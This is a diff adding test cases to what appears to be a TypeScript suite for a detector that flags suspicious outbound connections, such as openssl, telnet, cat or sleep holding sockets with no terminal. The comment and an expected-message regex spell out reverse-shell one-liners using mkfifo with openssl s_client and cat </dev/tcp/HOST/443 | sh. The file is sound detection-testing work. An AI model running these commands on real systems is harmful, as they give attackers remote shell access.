@@ -81,6 +81,16 @@ const cases: [string, Socket, Verdict, string[], string[], RegExp?][] = [
   ["bash running a script from /var/tmp, listening on loopback", listener(proc("bash", "/usr/bin/bash", { ...alice, cmdline: ["bash", "/var/tmp/x.sh"] }), "127.0.0.1", 8000), "suspicious", ["writable-dir-exe"], []],
   ["the system python3 running a packaged script (unattended-upgrade) to 443 (benign nearest)", outbound(proc("python3", "/usr/bin/python3.11", { cmdline: ["/usr/bin/python3", "/usr/bin/unattended-upgrade"] }), "203.0.113.7", 443), "expected", ["usual-outbound"], ["unpackaged-outbound", "writable-dir-exe"]],
   ["python3 running a script by a relative path (its folder is not known) to 443", outbound(proc("python3", "/usr/bin/python3.11", { ...alice, cmdline: ["python3", "manage.py", "runserver"] }), "203.0.113.7", 443), "expected", ["usual-outbound"], ["unpackaged-outbound"]],
+  // reverse shells no shell holds: sh -i < FIFO | openssl s_client … > FIFO, cat </dev/tcp/HOST/443 | sh
+  ["openssl s_client to 443 with no terminal (a mkfifo reverse shell)", outbound(proc("openssl", "/usr/bin/openssl", { ...alice, cmdline: ["openssl", "s_client", "-quiet", "-connect", "203.0.113.7:443"], tty: null }), "203.0.113.7", 443), "suspicious", ["stream-client"], ["usual-outbound"],
+    /has no terminal, so nobody is typing into it: its input comes from a pipe or a file, as in the reverse shell sh -i < FIFO 2>&1 \| openssl s_client -quiet -connect HOST:PORT > FIFO/],
+  ["telnet to 80 with no terminal", outbound(proc("telnet", "/usr/bin/telnet.netkit", { ...alice, cmdline: ["telnet", "203.0.113.7", "80"], tty: null }), "203.0.113.7", 80), "suspicious", ["stream-client"], ["usual-outbound"]],
+  ["openssl s_client to 443 typed on a terminal (testing a TLS server): unknown, not expected", outbound(proc("openssl", "/usr/bin/openssl", { ...alice, cmdline: ["openssl", "s_client", "-connect", "203.0.113.7:443"], tty: "pts/1" }), "203.0.113.7", 443), "unknown", ["stream-client"], ["usual-outbound"]],
+  ["openssl s_client to a server on the local network (benign nearest)", outbound(proc("openssl", "/usr/bin/openssl", { ...alice, cmdline: ["openssl", "s_client", "-connect", "192.168.1.7:443"], tty: null }), "192.168.1.7", 443), "expected", ["usual-outbound"], ["stream-client"]],
+  ["cat holding a connection to 443 (cat </dev/tcp/HOST/443 | sh)", outbound(proc("cat", "/usr/bin/cat", { ...alice, cmdline: ["cat"], tty: null }), "203.0.113.7", 443), "suspicious", ["handed-connection"], ["usual-outbound"],
+    /cat \(pid 4242, \/usr\/bin\/cat\) never opens a network connection itself, yet holds one to a server on the Internet \(port 443\)/],
+  ["sleep holding a connection to 8080 (exec 3<>/dev/tcp/HOST/8080; sleep)", outbound(proc("sleep", "/usr/bin/sleep", { ...alice, cmdline: ["sleep", "600"] }), "203.0.113.7", 8080), "suspicious", ["handed-connection"], []],
+  ["cat holding a connection to a loopback health check (benign nearest)", outbound(proc("cat", "/usr/bin/cat", { ...alice, cmdline: ["cat"] }), "127.0.0.1", 8080), "unknown", [], ["handed-connection"]],
   ["a project's tool from node_modules/.bin under /srv to 443", outbound(proc("node", "/usr/bin/node", { ...alice, cmdline: ["node", "/srv/app/node_modules/.bin/next", "start"] }), "203.0.113.7", 443), "expected", ["usual-outbound"], ["unpackaged-outbound"]],
 ];
 
